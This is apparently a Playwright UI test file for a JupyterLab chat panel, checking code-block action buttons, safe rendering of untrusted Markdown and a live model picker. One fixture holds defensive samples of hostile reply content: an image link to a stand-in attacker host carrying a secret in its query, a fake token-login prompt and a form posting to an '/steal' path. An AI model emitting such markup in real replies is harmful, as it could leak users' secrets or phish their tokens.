"""How a reply's Markdown is shown, in a real JupyterLab and Chromium: each code block's
buttons act on that block, whatever Markdown made it; untrusted Markdown loads nothing
from another host until the user asks and shows no form control; the model picker offers
what the server has now; a fast stream is shown at most once a frame. Replies come from a
loopback server in OpenAI's streaming format (tests/fakes/slow_openai.py)."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from fakes.composer import choose_model, model_button
from fakes.lab import command
from playwright.sync_api import expect

pytestmark = pytest.mark.ui

# A list-indented fence, a ~~~ fence and an indented block before a normal fence: a
# regex over top-level ``` fences sees only the last and pairs it with the first block.
BLOCKS_REPLY = """Steps:

1. Install it:

   ```bash
   pip install thing
   ```

2. Then run:

~~~python
print("tilde")
~~~

An indented block:

    echo indented

And a normal fence:

```python
print("normal")
```
"""
BLOCKS = ["pip install thing", 'print("tilde")', "echo indented", 'print("normal")']

PIXEL_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmM"
    "IQAAAABJRU5ErkJggg=="
)
REMOTE = "http://attacker.example"

NOTEBOOK = {
    "cells": [
        {
            "cell_type": "code",
            "execution_count": None,
            "id": "c1",
            "metadata": {},
            "outputs": [],
            "source": "x = 1",
        }
    ],
    "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
    "nbformat": 4,
    "nbformat_minor": 5,
}


def untrusted_reply(files_url: str) -> str:
    data_url = "data:image/png;base64," + base64.b64encode(PIXEL_PNG).decode()
    return f"""Here is the chart: ![chart]({REMOTE}/pixel.png?q=the-secret)

Session expired, type your token: <input name="token" placeholder="token">
<textarea>t</textarea> <select><option>a</option></select>
<button>Sign in</button> <form action="{REMOTE}/steal"><input type="submit"></form>

- [x] done

An inline picture: ![dot]({data_url}) and a project file: ![file]({files_url})
"""


def put(lab_server: Any, path: str, model: dict[str, Any]) -> None:
    import urllib.request

    request = urllib.request.Request(
        f"{lab_server.url}api/contents/{path}",
        method="PUT",
        data=json.dumps(model).encode(),
        headers={"Authorization": f"token {lab_server.token}"},
    )
    urllib.request.urlopen(request, timeout=10).close()


def open_chat_with_reply(
    page: Any, lab_server: Any, fake_openai: Any, name: str, reply: str
) -> tuple[Any, dict[str, Any]]:
    """A new project and chat whose model answers ``reply``: the reply shown, the project."""
    fake_openai.replies[name] = reply
    project = lab_server.api("projects", "POST", {"name": name.title()})
    chat = lab_server.api("chats", "POST", {"project_id": project["id"], "title": name})
    lab_server.api(
        f"chats/{chat['id']}", "PATCH", {"model": {"provider": "scripted", "model": name}}
    )
    page.keyboard.press("Alt+Shift+C")
    panel = page.locator("#omnipanel-chat")
    panel.get_by_label("Project").select_option(label=name.title())
    panel.get_by_role("button", name=name, exact=True).click()
    message = panel.get_by_role("textbox", name="Message")
    message.fill("Show me")
    message.press("Enter")
    reply_view = panel.locator('.jp-OmniPanel-message-assistant[data-status="complete"]')
    reply_view.locator(".jp-OmniPanel-markdown").wait_for(timeout=30_000)
    return reply_view, project


def cell_texts(page: Any) -> list[str]:
    return page.evaluate(
        """() => [...document.querySelectorAll('.jp-Notebook .jp-Cell .cm-content')]
            .map(node => node.cm?.state?.doc?.toString() ?? node.innerText)"""
    )


def test_code_block_buttons_act_on_their_own_block(
    page: Any, lab_server: Any, fake_openai: Any, screenshots: Any
) -> None:
    reply, project = open_chat_with_reply(page, lab_server, fake_openai, "blocks", BLOCKS_REPLY)
    path = f"{project['folder']}/blocks.ipynb"
    put(lab_server, path, {"type": "notebook", "content": NOTEBOOK})
    command(page, "docmanager:open", {"path": path, "factory": "Notebook"})
    page.locator(".jp-Notebook .jp-Cell").first.wait_for()

    # Insert below, each block in turn under the first cell: the new cell holds exactly
    # the code of the block whose button was clicked.
    toolbars = reply.get_by_role("toolbar", name="Code actions")
    cells = page.locator(".jp-Notebook .jp-Cell")
    for index, code in enumerate(BLOCKS):
        cells.first.click()
        toolbars.nth(index).get_by_role("button", name="Insert below").click()
        expect(cells).to_have_count(index + 2)
        assert cell_texts(page)[1] == code, f"block {index}"
    assert cell_texts(page) == ["x = 1", *reversed(BLOCKS)]
    # One toolbar per block, each just before its own <pre>.
    expect(toolbars).to_have_count(len(BLOCKS))
    assert [text.strip() for text in reply.locator("pre").all_inner_texts()] == BLOCKS

    # Replace cell: the active cell becomes the clicked block's code.
    cells.nth(0).click()
    toolbars.nth(1).get_by_role("button", name="Replace cell").click()
    expect(cells.nth(0)).to_contain_text("tilde")
    assert cell_texts(page)[0] == 'print("tilde")'
    screenshots("chat-code-blocks")


def test_untrusted_markdown_loads_nothing_remote_and_has_no_form_controls(
    page: Any, lab_server: Any, fake_openai: Any, screenshots: Any
) -> None:
    remote_requests: list[str] = []

    def attacker(route: Any) -> None:
        remote_requests.append(route.request.url)
        route.fulfill(status=200, content_type="image/png", body=PIXEL_PNG)

    page.route(f"{REMOTE}/**", attacker)
    project = lab_server.api("projects", "POST", {"name": "Files"})
    image_path = f"{project['folder']}/pixel.png"
    put(
        lab_server,
        image_path,
        {"type": "file", "format": "base64", "content": base64.b64encode(PIXEL_PNG).decode()},
    )
    files_url = f"/files/{image_path}"
    reply, _ = open_chat_with_reply(
        page, lab_server, fake_openai, "untrusted", untrusted_reply(files_url)
    )
    markdown = reply.locator(".jp-OmniPanel-markdown")

    # Same-origin and data: images show; nothing is asked of the other host.
    expect(markdown.locator('img[src^="data:image/png"]')).to_have_count(1)
    expect(markdown.locator(f'img[src="{files_url}"]')).to_have_count(1)
    page.wait_for_timeout(500)  # time for a stray request to leave
    assert remote_requests == []
    assert markdown.locator(f'img[src^="{REMOTE}"]').count() == 0

    # No form control from the Markdown; the task list's box is a character.
    for control in ("input", "textarea", "select", "form"):
        assert markdown.locator(control).count() == 0, control
    assert reply.get_by_role("button", name="Sign in").count() == 0
    expect(markdown).to_contain_text("Session expired, type your token")
    expect(markdown).to_contain_text("☑ done")
    screenshots("chat-untrusted-markdown")
    assert remote_requests == []

    # The remote image is a button naming its host; with the user's consent it loads.
    load = reply.get_by_role("button", name='Load image "chart" from attacker.example')
    load.click()
    expect(markdown.locator(f'img[src^="{REMOTE}/pixel.png"]')).to_have_count(1)
    assert remote_requests == [f"{REMOTE}/pixel.png?q=the-secret"]


def test_model_picker_offers_a_model_added_while_the_page_is_open(
    page: Any, lab_server: Any, fake_openai: Any
) -> None:
    project = lab_server.api("projects", "POST", {"name": "Picker"})
    lab_server.api("chats", "POST", {"project_id": project["id"], "title": "picker"})
    page.keyboard.press("Alt+Shift+C")
    panel = page.locator("#omnipanel-chat")
    panel.get_by_label("Project").select_option(label="Picker")
    panel.get_by_role("button", name="picker", exact=True).click()
    picker = model_button(panel)
    expect(picker).to_have_accessible_name("Model: project default")
    picker.click()
    models = panel.get_by_role("listbox", name="Models")
    # (the server lists its models once the page is open: slow on a busy machine)
    expect(models.get_by_role("option", name="scripted/slow", exact=True)).to_have_count(
        1, timeout=30_000
    )
    expect(models.get_by_role("option", name="scripted/fresh", exact=True)).to_have_count(0)
    panel.get_by_role("combobox", name="Filter models").press("Escape")
    expect(models).to_have_count(0)
    expect(picker).to_be_focused()  # Esc gives the focus back to the dropdown

    # A model appears on the server (as after a pull or a new key): the dropdown offers it
    # when the user comes to choose, without a reload.
    fake_openai.replies["fresh"] = "Fresh reply."
    choose_model(panel, "scripted/fresh")
    chat = lab_server.api(f"chats?project_id={project['id']}")["items"][0]
    for _ in range(50):  # the dropdown closes before the change reaches the server
        if (lab_server.api(f"chats/{chat['id']}")["model"] or {}).get("model") == "fresh":
            break
        page.wait_for_timeout(100)
    assert lab_server.api(f"chats/{chat['id']}")["model"]["model"] == "fresh"
